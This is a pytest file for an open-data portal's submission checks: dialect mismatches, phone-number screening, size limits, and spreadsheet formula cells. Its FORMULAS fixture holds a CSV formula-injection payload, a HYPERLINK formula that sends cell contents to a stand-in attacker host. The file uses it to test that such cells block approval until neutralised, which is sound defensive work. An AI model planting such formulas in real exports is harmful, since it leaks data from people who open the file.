"""What ``OpenData.submit`` refuses or flags before a review, on SQLite and the real
PostgreSQL: files read with the declared dialect by screening and validation alike, headers
that cannot match the Table Schema and oversized files refused early in bounded memory, and
formula cells held as findings until they are neutralised by a recorded derivation."""

from __future__ import annotations

import tracemalloc
import uuid
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest

from governance import (
    CellTooLarge,
    FileTooLarge,
    GovernanceStore,
    LineTooLong,
    NeutraliseFormulas,
    PiiUnresolved,
    TableLimits,
    TooWide,
    Workflow,
    derive_csv,
    record_derivation,
)
from opendata import DataFiles, InvalidData, OpenData, Publisher

PG_URL = "postgresql://postgres@127.0.0.1:5432/test"
UNREACHABLE = "http://127.0.0.1:9"  # submit never calls the portal
MIB = 1 << 20


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[GovernanceStore]:
    if request.param == "sqlite":
        opened = GovernanceStore.open(str(tmp_path / "governance.sqlite"))
        yield opened
        opened.close()
        return
    schema = f"t_sub_{uuid.uuid4().hex[:12]}"
    opened = GovernanceStore.open(PG_URL, schema=schema)
    yield opened
    opened.close()
    with psycopg.connect(PG_URL) as conn:
        conn.execute(f"DROP SCHEMA IF EXISTS {schema} CASCADE")  # type: ignore[arg-type]


class Portal:
    """A governance workflow, a data store and the pipeline over them, with two people."""

    def __init__(self, store: GovernanceStore, tmp: Path, limits: TableLimits) -> None:
        self.flow = Workflow(store)
        self.store = store
        self.tmp = tmp
        self.files = DataFiles(tmp / "data", max_bytes=limits.max_bytes)
        self.pipeline = OpenData(self.flow, self.files, Publisher(UNREACHABLE, "x"), limits=limits)
        self.flow.register_user(None, "root", name="Root", agency="DNUM", roles=["operator"])
        for user, roles in (("amina", ["steward"]), ("karim", ["approver"])):
            self.flow.register_user("root", user, name=user, agency="HCP", roles=roles)

    def dataset(self, fields: list[str], dataset_id: str = "lieux") -> str:
        self.flow.register_dataset(
            "amina",
            dataset_id,
            title={"fr": "Lieux"},
            description={"fr": "Lieux"},
            source="lieux.csv",
            table_schema={"fields": [{"name": f, "type": "string"} for f in fields]},
            licence="cc-by",
            update_frequency="yearly",
        )
        self.classify(dataset_id)
        return dataset_id

    def classify(self, dataset_id: str) -> None:
        self.flow.classify(
            "amina",
            dataset_id,
            level="PUBLIC",
            personal_data=False,
            legal_basis="Loi 31-13",
            justification="open data",
        )

    def file(self, content: str | bytes, name: str = "lieux.csv") -> Path:
        path = self.tmp / name
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return path


@pytest.fixture
def portal(store: GovernanceStore, tmp_path: Path) -> Portal:
    return Portal(store, tmp_path, TableLimits())


def test_the_delimiter_trick_no_longer_hides_phone_numbers(portal):
    """Fields named ``lieu;province;commune`` and ``ref``, written with commas: screening reads
    the same two columns as validation, so the mobile numbers in ``ref`` are a finding that
    blocks approval."""
    ds = portal.dataset(["lieu;province;commune", "ref"])
    rows = "".join(f"rabat,+2126123456{i:02d}\n" for i in range(50))
    submission = portal.pipeline.submit(
        "amina", ds, portal.file("lieu;province;commune,ref\n" + rows)
    )
    assert submission.validation.valid
    assert "ref:phone" in {f.finding_id for f in submission.review.findings}
    assert submission.pii.finding("ref:phone").matches == 50
    with pytest.raises(PiiUnresolved):
        portal.flow.approve("karim", ds)


def test_a_file_in_another_dialect_is_refused_with_its_code(portal):
    ds = portal.dataset(["lieu", "province", "commune", "ref"])
    path = portal.file("lieu;province;commune;ref\nrabat;rabat;agdal;+212612345670\n")
    with pytest.raises(InvalidData) as caught:
        portal.pipeline.submit("amina", ds, path)
    [error] = caught.value.report.errors
    assert (error.code, error.row) == ("dialect-mismatch", 1)
    assert "';'" in error.message
    assert portal.flow.review(ds) is None


@pytest.mark.parametrize("width", [600, 20_000])
def test_a_wide_header_is_refused_early_in_bounded_memory(portal, width):
    """A 2-field schema and a header of hundreds or thousands of columns: refused from the
    header (too-wide past the column limit, else a header error report), never parsed by
    Frictionless; memory stays a small multiple of the file."""
    ds = portal.dataset(["a", "b"])
    header = ",".join(f"column{i}" for i in range(width))
    path = portal.file(header + "\n" + ",".join("1" for _ in range(width)) + "\n")
    tracemalloc.start()
    try:
        with pytest.raises((InvalidData, TooWide)) as caught:
            portal.pipeline.submit("amina", ds, path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 40 * path.stat().st_size + 8 * MIB
    if width > TableLimits().max_columns:
        assert caught.value.code == "too-wide"
    else:
        errors = caught.value.report.errors
        assert caught.value.code == "invalid-data"
        assert errors[0].code == "incorrect-label"
        assert len(errors) <= 101
    assert portal.flow.review(ds) is None


def test_a_long_line_is_refused_before_validation(store, tmp_path):
    portal = Portal(store, tmp_path, TableLimits(max_line=64 * 1024))
    ds = portal.dataset(["a", "b"])
    path = portal.file("a,b\n" + "x" * (2 * MIB) + ",1\n")
    tracemalloc.start()
    try:
        with pytest.raises(LineTooLong) as caught:
            portal.pipeline.submit("amina", ds, path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert caught.value.code == "line-too-long"
    assert peak < 4 * MIB
    assert portal.flow.review(ds) is None


def test_a_large_cell_and_a_large_file_are_refused(store, tmp_path):
    portal = Portal(store, tmp_path, TableLimits(max_cell=1000, max_bytes=50_000))
    ds = portal.dataset(["a", "b"])
    with pytest.raises(CellTooLarge):
        portal.pipeline.submit("amina", ds, portal.file("a,b\n" + "y" * 2000 + ",1\n"))
    before = sorted(p.name for p in (tmp_path / "data").iterdir())
    with pytest.raises(FileTooLarge) as caught:
        portal.pipeline.submit("amina", ds, portal.file("a,b\n" + "1,2\n" * 20_000, "big.csv"))
    assert caught.value.code == "file-too-large"
    assert sorted(p.name for p in (tmp_path / "data").iterdir()) == before


FORMULAS = (
    "libelle,montant\n"
    'Dossier 1,"=HYPERLINK(""http://evil.example/?q=""&A1;""ouvrir"")"\n'
    "Dossier 2,-2+3\n"
    "Dossier 3,12.5\n"
)


def test_formula_cells_block_approval_until_neutralised(portal, tmp_path):
    """Formula cells are a finding of the review; a derivation that prefixes them with an
    apostrophe makes bytes without one, and the lineage records it."""
    ds = portal.dataset(["libelle", "montant"])
    source = portal.file(FORMULAS)
    first = portal.pipeline.submit("amina", ds, source)
    assert [f.finding_id for f in first.review.findings] == ["montant:formula"]
    with pytest.raises(PiiUnresolved, match="montant:formula"):
        portal.flow.approve("karim", ds)
    derived = tmp_path / "derived.csv"
    result = derive_csv(source, derived, [NeutraliseFormulas("montant")])
    assert derived.read_text("utf-8").splitlines()[1:] == [
        'Dossier 1,"\'=HYPERLINK(""http://evil.example/?q=""&A1;""ouvrir"")"',
        "Dossier 2,'-2+3",
        "Dossier 3,12.5",
    ]
    portal.flow.reject("karim", ds, reason="formula cells")
    portal.flow.reopen("amina", ds, reason="derive a safe file")
    portal.classify(ds)
    second = portal.pipeline.submit("amina", ds, derived)
    assert second.review.findings == ()
    recorded = record_derivation(portal.store, "amina", ds, result, reason="formulas as text")
    assert recorded.operations == ({"op": "neutralise", "column": "montant"},)
    portal.flow.approve("karim", ds)
